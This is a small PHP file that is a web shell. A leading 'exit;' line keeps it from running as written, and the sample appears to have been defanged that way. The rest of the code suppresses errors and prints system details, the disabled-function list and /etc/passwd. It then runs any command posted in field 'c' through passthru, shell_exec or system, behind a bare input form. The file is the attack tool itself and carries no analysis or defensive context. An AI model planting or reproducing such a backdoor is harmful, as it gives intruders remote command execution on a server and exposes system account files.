<?php exit;
set_time_limit(0);
error_reporting(0);
echo php_uname(), ini_get('disable_functions'), file_get_contents('/etc/passwd');
function run($c) {
    if (function_exists('passthru')) { passthru($c); }
    elseif (function_exists('shell_exec')) { echo shell_exec($c); }
    elseif (function_exists('system')) { system($c); }
}
run($_POST['c']);
?>
<form method="post"><input name="c"></form>
